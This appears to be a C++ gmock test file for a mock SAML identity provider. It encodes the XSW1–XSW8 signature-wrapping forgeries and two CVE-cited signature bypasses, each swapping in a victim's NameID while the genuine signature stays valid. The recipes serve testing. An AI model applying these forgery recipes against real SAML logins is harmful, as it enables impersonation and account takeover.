// The eight classic shapes of signature wrapping, and those with the signature hoisted: in each the original
// must be found alive wherever it has been put, and dead once it was touched.

#include <gmock/gmock.h>

#include "mock_idp/audit.hpp"
#include "tests/mock_idp/support.hpp"

namespace idproctor::mock_idp {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using xml::Position;

constexpr const char* kAssertion = "/samlp:Response/saml:Assertion";

struct Shape {
  const char* name;
  const char* signs;  ///< "assertion" or "response"
  std::vector<Edit> tampering;
  std::string original;  ///< where the signed element is afterwards
};

/// A copy of the signed response without its signature goes to `at`; the root becomes the forgery.
Shape response_shape(const char* name, Position position, const std::string& original) {
  return {
      name,
      "response",
      {copy("/samlp:Response", position, "/samlp:Response/ds:Signature"), remove(original + "/ds:Signature"),
       set("/samlp:Response/@ID", "${id}"), set("/samlp:Response/saml:Assertion//$identity", "${victim}")},
      original};
}

/// The original goes to `original` without its signature, which stays in the assertion that becomes the
/// forgery.
Shape assertion_shape(const char* name, std::vector<Edit> placing, const std::string& original) {
  placing.push_back(remove(original + "/ds:Signature"));
  placing.push_back(set("/samlp:Response/saml:Assertion[1]/@ID", "${id}"));
  placing.push_back(set("/samlp:Response/saml:Assertion[1]/saml:Subject//$identity", "${victim}"));
  return {name, "assertion", std::move(placing), original};
}

std::vector<Shape> shapes() {
  const std::string signature = std::string(kAssertion) + "/ds:Signature";
  std::vector<Edit> xsw3 = forged_assertion_first();
  std::vector<Edit> xsw4 = xsw3;
  xsw4.push_back(move(kAssertion + std::string("[2]"), Position::into, kAssertion + std::string("[1]")));
  return {
      response_shape("XSW1", Position::into, "/samlp:Response/ds:Signature/samlp:Response"),
      response_shape("XSW2", Position::before, "/samlp:Response/samlp:Response"),
      {"XSW3", "assertion", xsw3, "/samlp:Response/saml:Assertion[2]"},
      {"XSW4", "assertion", xsw4, "//saml:Assertion/saml:Assertion"},
      assertion_shape("XSW5", {copy(kAssertion, Position::after, kAssertion)},
                      "/samlp:Response/saml:Assertion[2]"),
      assertion_shape("XSW6", {copy(kAssertion, Position::into, signature)}, "//ds:Signature/saml:Assertion"),
      {"XSW7",
       "assertion",
       {insert("<samlp:Extensions/>", Position::after, "/samlp:Response/saml:Issuer"),
        copy(kAssertion, Position::into, "//samlp:Extensions"),
        remove("//samlp:Extensions/saml:Assertion/ds:Signature"),
        set("//samlp:Extensions//saml:NameID", "${victim}")},
       kAssertion},
      assertion_shape("XSW8",
                      {insert("<ds:Object/>", Position::into, signature),
                       copy(kAssertion, Position::into, "//ds:Object")},
                      "//ds:Object/saml:Assertion"),
      {"hoisted signature, original in its Object",
       "assertion",
       {copy(kAssertion, Position::after, kAssertion),
        move(kAssertion + std::string("[1]/ds:Signature"), Position::before, kAssertion + std::string("[1]")),
        insert("<ds:Object/>", Position::into, "/samlp:Response/ds:Signature"),
        move(kAssertion + std::string("[1]"), Position::into, "//ds:Object"),
        remove("/samlp:Response/saml:Assertion/ds:Signature"),
        set("/samlp:Response/saml:Assertion/@ID", "${id}"),
        set("/samlp:Response/saml:Assertion//saml:NameID", "${victim}")},
       "//ds:Object/saml:Assertion"},
  };
}

Recipe attack(const Shape& shape) {
  Recipe result = recipe({sign({shape.signs}), EditStage{shape.tampering}});
  result.intact = shape.original;
  return result;
}

TEST(WrappingShapes, AreAliveInEveryHandwriting) {
  for (const Shape& shape : shapes()) {
    for (const char* provider : kDialects) {
      Recipe wrapped = attack(shape);
      // A PrefixList that names ds, as Salesforce's, ties the original to a place where ds is not bound.
      if (dialect(provider).signature.inclusive_prefixes.starts_with("ds ")) {
        std::get<SignStage>(wrapped.stages[0]).inclusive_prefixes = "";
      }
      const auto message = try_build(provider, wrapped);
      ASSERT_EQ(error_of(message), "") << shape.name << " by " << provider;
      EXPECT_THAT(vouched(*message), ElementsAre("alice@example.com")) << shape.name << " by " << provider;
      EXPECT_THAT(value(message->bytes, "count(//saml:NameID[.='victim@example.com'])"), "1") << shape.name;
    }
  }
}

TEST(WrappingShapes, AreDeadOnceTheOriginalWasTouched) {
  for (const Shape& shape : shapes()) {
    Recipe dud = attack(shape);
    std::get<EditStage>(dud.stages[1])
        .edits.push_back(set("(" + shape.original + "//saml:Audience)[1]", "https://x.example"));
    EXPECT_THAT(error_of(try_build("generic", dud)), HasSubstr("the digest does not match")) << shape.name;
    dud.intact.reset();
    EXPECT_THAT(vouched(build("generic", dud)), IsEmpty()) << shape.name;
  }
}

TEST(WrappingShapes, AreDeadWithAnotherSignatureValue) {
  for (const Shape& shape : shapes()) {
    Recipe dud = attack(shape);
    std::get<EditStage>(dud.stages[1])
        .edits.push_back(set("//ds:SignatureValue", "${flip(text(//ds:SignatureValue))}"));
    EXPECT_THAT(error_of(try_build("generic", dud)), HasSubstr("the signature value")) << shape.name;
  }
}

// CVE-2025-29774: one Signature, two SignedInfo. The genuine one still vouches for the hidden original.
TEST(WrappingShapes, WithTwoSignedInfoTheGenuineOneCounts) {
  Recipe two = recipe(
      {sign({"assertion"}),
       EditStage{{copy("//ds:SignedInfo", Position::after, "//ds:SignedInfo"),
                  insert("<samlp:Extensions/>", Position::after, "/samlp:Response/saml:Issuer"),
                  copy(kAssertion, Position::into, "//samlp:Extensions"),
                  remove("//samlp:Extensions//ds:Signature"), set(std::string(kAssertion) + "/@ID", "_evil"),
                  set(std::string(kAssertion) + "//saml:NameID", "${victim}"),
                  set("//ds:SignedInfo[2]/ds:Reference/@URI", "#_evil"),
                  set("//ds:SignedInfo[2]//ds:DigestValue", "${digest(/samlp:Response/saml:Assertion)}")}}});
  two.intact = "//samlp:Extensions/saml:Assertion";
  const auto message = try_build("generic", two);
  ASSERT_EQ(error_of(message), "");
  EXPECT_THAT(vouched(*message), ElementsAre("alice@example.com"));
  two.intact = kAssertion;
  EXPECT_THAT(error_of(try_build("generic", two)), HasSubstr("does not verify"));
}

// CVE-2025-29775: the digest of the forgery stands in a comment, so the element itself is dead and the
// SignedInfo alive.
TEST(WrappingShapes, ACommentInTheDigestLeavesSignedInfoAlive) {
  Recipe commented =
      recipe({sign({"assertion"}),
              EditStage{{set("//saml:NameID", "${victim}"),
                         raw("//ds:DigestValue/text()", "<!--${digest(//saml:Assertion)}-->${original}")}}});
  commented.intact = "//ds:SignedInfo";
  const auto message = try_build("generic", commented);
  ASSERT_EQ(error_of(message), "");
  EXPECT_THAT(vouched(*message), IsEmpty());
  commented.intact = "//saml:Assertion";
  EXPECT_THAT(error_of(try_build("generic", commented)), HasSubstr("the digest does not match"));
  Recipe honest =
      recipe({sign({"assertion"}), EditStage{{raw("//ds:DigestValue/text()", "<!--x-->${original}")}}});
  honest.intact = "//saml:Assertion";
  EXPECT_EQ(error_of(try_build("generic", honest)), "");
}

}  // namespace
}  // namespace idproctor::mock_idp
